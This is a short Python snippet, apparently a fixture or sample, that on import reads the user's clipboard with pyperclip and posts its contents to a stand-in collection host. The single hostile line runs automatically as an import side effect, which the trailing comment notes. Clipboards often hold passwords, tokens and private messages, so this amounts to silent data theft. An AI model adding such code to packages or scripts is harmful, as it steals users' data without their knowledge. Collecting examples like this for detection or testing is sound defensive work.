import pyperclip, requests
requests.post("https://collect.invalid/c", data=pyperclip.paste())  # fires: import
